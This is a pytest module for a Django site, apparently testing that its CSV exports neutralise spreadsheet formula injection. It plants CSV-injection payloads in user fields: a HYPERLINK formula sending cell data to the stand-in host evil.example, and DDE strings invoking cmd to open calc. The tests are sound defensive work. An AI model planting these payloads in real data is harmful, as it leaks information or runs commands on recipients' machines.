"""Every CSV export of the site: a formula typed by a user never reaches a spreadsheet as one.

The URL patterns are read from the resolver, so a new CSV export fails here until it has a case.
"""

import csv
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from portal.core.exports import csv_cell
from programme.models import Registration
from tests.factories import EditionFactory, OrganisationFactory, ThematicAreaFactory, UserFactory
from tests.matchmaking.factories import scheduled_meeting

# One payload per character a spreadsheet reads as the start of a formula.
EQUALS = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def csv_patterns(resolver: URLResolver | None = None, namespace: str = "") -> Iterator[str]:
    """The names of the URL patterns that look like CSV exports (by route or by view name)."""
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from csv_patterns(entry, inner)
        elif isinstance(entry, URLPattern):
            view = getattr(entry.callback, "__name__", "")
            if ".csv" in str(entry.pattern) or "csv" in (entry.name or "") or "csv" in view:
                yield f"{namespace}{entry.name}"


def _staff(client) -> None:
    client.force_login(UserFactory(is_staff=True, email="staff@example.org"))


def figures_csv(client) -> tuple[str, list[str]]:
    ThematicAreaFactory(name_en=EQUALS)
    ThematicAreaFactory(name_en=TAB)
    _staff(client)
    return reverse("shell:figures_csv", kwargs={"table": "agreements-by-area"}), [EQUALS, TAB]


def registrations_csv(client) -> tuple[str, list[str]]:
    edition = EditionFactory()
    Registration.objects.create(
        edition=edition,
        person=UserFactory(full_name=EQUALS, email="=cmd@example.org"),
        organisation=OrganisationFactory(name_en=PLUS),
        languages=TAB,
        status=Registration.Status.CONFIRMED,
    )
    _staff(client)
    url = reverse("programme:staff_registrations_csv", kwargs={"year": edition.year})
    return url, [EQUALS, "=cmd@example.org", PLUS, TAB]


def grid_csv(client) -> tuple[str, list[str]]:
    meeting = scheduled_meeting()
    meeting.table.name = RETURN
    meeting.table.save()
    for side, (name, organisation) in (
        (meeting.request.requester, (EQUALS, AT)),
        (meeting.request.recipient, (MINUS, PLUS)),
    ):
        side.registration.person.full_name = name
        side.registration.person.save()
        side.registration.organisation.name_en = organisation
        side.registration.organisation.save()
    _staff(client)
    kwargs = {"year": meeting.edition.year, "pk": meeting.slot.session_id}
    return reverse("matchmaking:grid_csv", kwargs=kwargs), [EQUALS, AT, MINUS, PLUS, RETURN]


def attendance_csv(client) -> tuple[str, list[str]]:
    import uuid

    from programme.checkin.services import check_in
    from tests.programme.factories import VenueFactory

    edition = EditionFactory()
    venue = VenueFactory(edition=edition, name_en=AT)
    registration = Registration.objects.create(
        edition=edition,
        person=UserFactory(full_name=EQUALS, native_name=TAB, email="=cmd@example.org"),
        organisation=OrganisationFactory(name_en=PLUS),
        status=Registration.Status.CONFIRMED,
    )
    staff = UserFactory(is_staff=True, email="door@example.org", full_name=MINUS)
    day = edition.days[0]
    check_in(registration=registration, venue=venue, day=day, by=staff, client_id=uuid.uuid4())
    _staff(client)
    url = reverse("programme:attendance_csv", kwargs={"year": edition.year})
    return f"{url}?venue={venue.pk}&day={day.isoformat()}", [EQUALS, TAB, PLUS, MINUS]


# Every CSV export: plant formulas where users type text, return the URL and the planted values.
EXPORTS: dict[str, Callable] = {
    "shell:figures_csv": figures_csv,
    "programme:staff_registrations_csv": registrations_csv,
    "matchmaking:grid_csv": grid_csv,
    "programme:attendance_csv": attendance_csv,
}


def test_every_csv_url_is_exercised() -> None:
    found = sorted(set(csv_patterns()))
    assert found == sorted(EXPORTS), "a CSV export has no case in EXPORTS"


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_csv_cell_starts_with_a_formula(client, name: str) -> None:
    url, planted = EXPORTS[name](client)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA)] == []
    # The planted values are there, neutralised, so the export did print the fields tested.
    for value in planted:
        assert f"'{value}" in cells, value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+39 02 1234", "'+39 02 1234"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Politecnico di Bergamo", "Politecnico di Bergamo"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (1500, 1500),
    ],
)
def test_csv_cell_neutralises_formulas_only(value, written) -> None:
    assert csv_cell(value) == written


def test_no_module_writes_csv_but_the_shared_writer() -> None:
    root = Path(settings.BASE_DIR)
    writers = []
    for app in ("portal", "programme", "events", "matchmaking", "agreements"):
        for path in (root / app).rglob("*.py"):
            text = path.read_text()
            if re.search(r"^\s*(import csv|from csv import)", text, re.M) or "text/csv" in text:
                writers.append(str(path.relative_to(root)))
    assert writers == ["portal/core/exports.py"]
